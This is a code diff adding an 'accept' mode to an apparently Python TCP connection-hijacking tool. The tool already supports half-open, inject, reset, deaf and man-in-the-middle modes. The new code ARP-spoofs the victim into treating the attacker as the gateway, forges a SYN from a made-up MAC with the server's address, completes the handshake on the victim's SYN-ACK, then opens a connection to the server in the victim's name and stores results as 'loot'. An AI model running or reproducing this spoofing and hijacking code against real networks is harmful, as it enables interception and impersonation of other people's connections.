@@ -9,15 +9,17 @@
                   we use its addresses and ports again (its state depends on what it was doing: FIN_WAIT, ESTABLISHED)
 --how middle      the victim believes that we are the gateway, the host that we are the victim: the victim's connection
                   ends here, and one of ours goes on in its name
+--how accept      the victim listens on the port. We connect to it with the server's address and port, so that the victim has
+                  an ESTABLISHED socket of that pair; then we connect to the server with the victim's
 """
 
 import time
 
-from frames import ACK, FIN, MADE_UP, RST, SYN, Impostor, Loot, Wire, arguments, mac, request_for
+from frames import ACK, BROADCAST, FIN, MADE_UP, RST, SYN, Impostor, Loot, Wire, arguments, mac, request_for
 
 told = arguments(
     __doc__,
-    (["--how"], dict(required=True, choices=["half-open", "inject", "reset", "deaf", "middle"])),
+    (["--how"], dict(required=True, choices=["half-open", "inject", "reset", "deaf", "middle", "accept"])),
     (["--port"], dict(type=int, required=True, help="the victim's port")),
     (["--seconds"], dict(type=float, default=3.0, help="at most so long")),
 )
@@ -161,6 +163,34 @@ def middle():
             return
 
 
-{"half-open": half_open, "inject": inject, "reset": reset, "deaf": deaf, "middle": middle}[told.how]()
+def accept():
+    """The victim believes that we are the gateway, to which it sends its SYN-ACK."""
+    def victim_believes():
+        # Its answer to this question tells the bridge where it is, whatever an earlier attack has told it.
+        wire.arp(1, wire.own_mac, wire.own_ip, b"\0" * 6, told.victim, to=BROADCAST)
+        time.sleep(0.005)
+        wire.claim(wire.gateway_ip, MADE_UP, victim_mac)
+
+    here = (told.server, told.victim, told.server_port, told.port)
+    there = (told.victim, told.server, told.port, told.server_port)
+    ours, sent = 0x12345678, 0
+    print("ready", flush=True)
+    for segment in wire.segments(told.seconds / 2):
+        if time.monotonic() - sent > 0.15:
+            victim_believes()
+            wire.tcp(*here, SYN, ours, 0, source_mac=MADE_UP, target_mac=victim_mac)
+            sent = time.monotonic()
+        if segment and segment[:4] == there and segment.flags & (SYN | ACK) == SYN | ACK:
+            wire.tcp(*here, ACK, ours + 1, segment.seq + 1, source_mac=MADE_UP, target_mac=victim_mac)
+            loot.notes["accepted"] = 1
+            break
+    # The server is asked in any case.
+    host_believes()
+    fresh = impostor(MADE_UP)
+    if fresh.connect(1.0, host_believes):
+        use(fresh, host_believes)
+
+
+{"half-open": half_open, "inject": inject, "reset": reset, "deaf": deaf, "middle": middle, "accept": accept}[told.how]()
 wire.tell_the_truth(told.victim, victim_mac)
 loot.print()
